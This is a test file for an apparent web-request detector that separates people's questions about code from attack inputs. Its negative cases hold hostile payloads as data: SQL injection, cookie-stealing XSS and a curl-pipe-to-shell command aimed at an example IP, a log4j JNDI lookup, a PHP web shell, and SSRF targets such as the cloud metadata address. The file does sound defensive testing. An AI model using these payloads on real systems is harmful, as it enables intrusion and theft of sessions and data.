// biome-ignore-all lint/suspicious/noTemplateCurlyInString: lookups and templates are written so.
/** What is written for people, and what would run there as well. */
import { describe, expect, it } from 'vitest';
import { isHarmless } from '../../src/detect/views/harmless.ts';
import { isQuestion, partQuestions } from '../../src/detect/views/questions.ts';

describe('a value', () => {
  it.each([
    "how to use system('ls') in php",
    'what does <?php echo $x ?> mean',
    'why does SELECT * FROM users WHERE id=1 return nothing',
    "what is ' or 1=1 --",
    'How do I stop <script>alert(1)</script> from running in comments?',
    'I tried cat /etc/passwd and it works for me, what about you',
    'Use the statement DROP TABLE users; to remove a table. See also DELETE FROM users WHERE id=1;',
    "Our login form breaks when the name is O'Reilly; can someone help me?",
    'Run `ls -la /tmp` first, then `cat notes.txt`. **Done!**',
    'Hello {{name}}, your order {{order.id}} is ready',
    '怎么用 system("ls") 在 php',
    "wie kann man in php system('ls') benutzen",
    "comment utiliser exec('ls') en php",
    "如何防止 ' or 1=1 注入",
  ])('is a question: %s', (text) => {
    expect(isQuestion(text, false)).toBe(true);
  });

  it.each([
    "how to' union select 1,2,password from users-- -",
    "explain this') or ('1'='1",
    "please help me'; drop table users;--",
    '4 and 1=1 what is the example',
    'javascript example"><script>alert(document.cookie)</script>',
    "nice post thanks for it<script>fetch('//198.51.100.7/'+document.cookie)</script>",
    'Great article, thanks for that! <svg onload=alert(1)>',
    'what is it;curl http://198.51.100.7/x|sh',
    'this is my host;id',
    'what is this `curl 198.51.100.9`',
    'Hello my friend {{7*7}}',
    'what is ${jndi:ldap://198.51.100.7/a} in log4j',
    "hello <?php system($_GET['c']); ?> world how are you",
    '"><img src=x onerror=alert(1)>',
    'if exist data.xls Echo The file was found.',
    'red shoes',
  ])('is none: %s', (text) => {
    expect(isQuestion(text, false)).toBe(false);
  });

  it('that is searched for needs one word beside the code', () => {
    expect(isQuestion('cmd.exe /c explained', true)).toBe(true);
    expect(isQuestion('cmd.exe /c explained', false)).toBe(false);
    expect(isQuestion('cmd.exe /c calc', true)).toBe(false);
  });
});

describe('a value as a whole', () => {
  it.each([
    ['q', 'php://', true],
    ['q', 'php://input meaning', true],
    ['q', 'php://input', false],
    ['page', 'php:// meaning', false],
    ['q', 'etc/passwd', true],
    ['q', 'win.ini', true],
    ['q', 'bash -i', true],
    ['q', 'bash -i >& x', false],
    ['file', 'win.ini', false],
    ['cmd', 'bash -i', false],
    ['q', '/etc/passwd', false],
    ['q', '/../etc/passwd x', false],
    ['next', 'http://localhost:3000/cb', true],
    ['redirect_uri', 'http://127.0.0.1:53682/', true],
    ['redirect', 'http://localhost:5173/dashboard?tab=1', true],
    ['next', 'http://localhost:6379/', false],
    ['next', 'http://localhost:22', false],
    ['next', 'http://169.254.169.254/latest/meta-data/', false],
    ['next', 'http://127.0.0.1:2375/containers/json', false],
    ['next', 'http://0x7f000001/', false],
    ['url', 'http://localhost:3000/cb', false],
    ['x', 'alert(1) medical', true],
    ['x', 'storm alert(s) today', true],
    ['x', 'red alert(s)', true],
    ['x', 'alert(1)', false],
    ['x', 'void alert(1)', false],
    ['x', 'alert(1) in window', false],
    ['x', 'throw alert(1) now', false],
    ['x', "alert('1') medical", false],
    ['t', 'bash;sh;zsh', true],
    ['t', 'a;id;ls', false],
    ['ref', 'javascript:void(0)', true],
    ['ref', 'javascript:void(alert(1))', false],
  ])('%s=%s is harmless: %s', (name, text, answer) => {
    expect(isHarmless(name, text)).toBe(answer);
  });
});

describe('a request', () => {
  it('loses the questions where they stand, and nothing beside them', () => {
    expect(partQuestions('/a?q=how+does+eval(+work&x=eval($_POST[1])')).toEqual({
      rest: '/a?q=&x=eval($_POST[1])',
      questions: ['how does eval( work'],
    });
    expect(partQuestions('/t/how-to-prevent-%3Cscript%3E-tags/4?v=1')).toEqual({
      rest: '/t/-/4?v=1',
      questions: ['how-to-prevent-<script>-tags'],
    });
    // A page named after a file.
    expect(partQuestions('/wiki/etc/passwd')).toEqual({ rest: '/', questions: [] });
    expect(partQuestions('/wiki/../etc/passwd').rest).toBe('/wiki/../etc/passwd');
    expect(partQuestions('/a?b=c&d')).toEqual({ rest: '/a?b=c&d', questions: [] });
  });

  it('is parted in time that grows with the text', () => {
    for (const piece of [
      'how to ',
      "' or ",
      '<a ',
      '; cat ',
      '${',
      '`',
      '{{',
      'x ',
      'a alert(',
      'http://a.',
    ]) {
      const text = `/a?q=${piece.repeat(4000 / piece.length)}`.slice(0, 4000);
      const start = process.cpuUsage().user;
      for (let round = 0; round < 20; round += 1) partQuestions(text);
      expect(process.cpuUsage(undefined).user - start, piece).toBeLessThan(2_000_000);
    }
  });
});
